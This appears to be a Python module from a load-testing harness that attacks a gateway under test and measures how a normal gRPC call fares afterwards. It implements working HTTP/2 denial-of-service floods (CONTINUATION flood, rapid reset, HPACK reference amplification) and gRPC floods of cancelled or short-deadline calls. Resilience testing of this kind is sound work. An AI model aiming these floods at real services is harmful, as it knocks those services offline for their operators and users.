"""Floods of HTTP/2 frames and of calls that are given up, beside a good gRPC client.

One connection sends the floods of frames. Clients of grpc give calls up, each on a connection of its own.
"""

import contextlib
import itertools
import socket
import struct
import threading
import time
from collections import Counter
from collections.abc import Callable, Iterator
from typing import Any

import grpc

from loadtests.harness.gateway import Gateway
from loadtests.hostile import h2wire
from loadtests.hostile.abuse.bombs import INFER, Attack
from loadtests.hostile.abuse.edges import rpc_works
from loadtests.hostile.abuse.hostile import PATIENCE_S
from loadtests.hostile.abuse.rpc_probe import question

METHOD = INFER.encode()
FLOOD_S = 6.0
CLIENTS = 8
REFERENCES = 12_000  # in a head of 12 KB, each to an entry of ENTRY_BYTES
ENTRY_BYTES = 3_900
CANCEL = struct.pack(">I", 8)


def attacks() -> Iterator[Attack]:
    for name, flood in (
        ("a CONTINUATION flood", _continuations),
        ("rapid reset", _resets),
        ("HPACK references", _references),
    ):
        yield Attack(f"gRPC: {name}, one connection", 0, _flooded(flood))
    for name, give_up in (("that cancel", _cancel), ("with deadlines of 0.5 to 5 ms", _hurry)):
        yield Attack(f"gRPC: {CLIENTS} clients {name}", 0, _given_up(give_up))


def _flooded(flood: Callable[[], Iterator[bytes]]) -> Callable[[Gateway], str]:
    """Return an attack that sends all of the flood, or as much as the gateway takes within FLOOD_S."""

    def play(gateway: Gateway) -> str:
        sent, ended, until_s = 0, "not closed", time.monotonic() + FLOOD_S
        with socket.create_connection((gateway.host, gateway.rpc_port), PATIENCE_S) as connection:
            reader = threading.Thread(target=_read_away, args=(connection,))
            reader.start()
            try:
                for piece in itertools.takewhile(lambda _: time.monotonic() < until_s, flood()):
                    connection.sendall(piece)
                    sent += len(piece)
            except OSError as error:
                ended = f"closed: {type(error).__name__}"
            with contextlib.suppress(OSError):
                connection.shutdown(socket.SHUT_RDWR)
            reader.join()
        took_s = rpc_works(gateway)
        return f"{sent / 1e6:.1f} MB, {ended}; a good call after them takes {took_s * 1e3:.0f} ms"

    return play


def _read_away(connection: socket.socket) -> None:
    with contextlib.suppress(OSError):
        while connection.recv(1 << 16):
            pass


def _continuations() -> Iterator[bytes]:
    """Yield the frames of one head that never ends."""
    part = h2wire.literal(b"x-a", b"c" * 100)
    yield h2wire.start() + h2wire.frame(h2wire.HEADERS, 0, 1, h2wire.block(METHOD))
    while True:
        yield h2wire.frame(h2wire.CONTINUATION, 0, 1, part) * 100


def _resets() -> Iterator[bytes]:
    yield h2wire.start()
    for first in range(1, 1 << 31, 100):
        yield b"".join(
            h2wire.call(stream, METHOD) + h2wire.frame(h2wire.RST_STREAM, 0, stream, CANCEL)
            for stream in range(first, first + 100, 2)
        )


def _references() -> Iterator[bytes]:
    """Yield a table of one long field, then heads that are nothing but references to it."""
    head = h2wire.block(METHOD)
    whole = h2wire.END_HEADERS | h2wire.END_STREAM
    long = head + h2wire.literal(b"x-a", b"b" * ENTRY_BYTES, kept=True)
    yield h2wire.PREFACE + h2wire.frame(h2wire.SETTINGS, 0, 0) + h2wire.frame(h2wire.HEADERS, whole, 1, long)
    for stream in range(3, 1 << 31, 2):
        yield h2wire.frame(h2wire.HEADERS, whole, stream, head + b"\xbe" * REFERENCES)


Infer = Any
"""A method of a client; grpc carries no types."""


def _given_up(give_up: Callable[[Infer, int], str]) -> Callable[[Gateway], str]:
    """Return an attack: CLIENTS clients call and give up, for FLOOD_S. It reports how their own calls
    ended."""

    def play(gateway: Gateway) -> str:
        endings: Counter[str] = Counter()
        until_s = time.monotonic() + FLOOD_S

        def call() -> None:
            alone = [("grpc.use_local_subchannel_pool", 1)]
            with grpc.insecure_channel(f"{gateway.host}:{gateway.rpc_port}", alone) as channel:
                infer = channel.unary_unary(INFER, bytes, bytes)
                for number in itertools.takewhile(lambda _: time.monotonic() < until_s, itertools.count()):
                    endings[give_up(infer, number)] += 1

        clients = [threading.Thread(target=call) for _ in range(CLIENTS)]
        for each in clients:
            each.start()
        for each in clients:
            each.join()
        took_s = rpc_works(gateway)
        said = ", ".join(f"{count} {name}" for name, count in endings.most_common())
        return f"{said}; a good call after them takes {took_s * 1e3:.0f} ms"

    return play


def _cancel(infer: Infer, _: int) -> str:
    call = infer.future(question(), timeout=PATIENCE_S)
    time.sleep(0.0005)
    return "cancelled" if call.cancel() else "ended before"


def _hurry(infer: Infer, number: int) -> str:
    try:
        infer(question(), timeout=0.0005 * (1 + number % 10))
    except grpc.RpcError as error:
        return str(error.code().name)
    return "OK"
